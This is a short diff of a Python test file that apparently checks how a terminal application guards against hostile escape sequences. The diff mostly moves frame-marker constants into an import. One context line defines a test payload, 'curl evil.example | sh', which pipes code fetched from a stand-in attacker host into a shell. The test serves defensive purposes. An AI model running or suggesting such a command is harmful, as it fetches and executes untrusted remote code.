@@ -29,7 +29,19 @@ from pirig import (
     explain,
     ready_away,
 )
-from termscan import Seq, apcs, clip_writes, csis, dcss, notifications, osc_numbers, scan, titles
+from termscan import (
+    FRAME_AGAIN,
+    FRAME_END,
+    Seq,
+    apcs,
+    clip_writes,
+    csis,
+    dcss,
+    notifications,
+    osc_numbers,
+    scan,
+    titles,
+)
 from waiting import absence_window, wait_until
 
 pytestmark = pytest.mark.pi
@@ -38,7 +50,6 @@ EVIL = b"curl evil.example | sh"
 B64 = base64.b64encode(EVIL).decode()
 WIDE = (40, 220)
 SHOWN = r"and that is all\."
-FRAME_END, FRAME_AGAIN = "\x1b[?2026l", "\x1b[?2026h"  # what ends (and reopens) Pi's frame
 
 # --- row 1: the guarded kinds, each behind a frame end ------------------------------------------
 
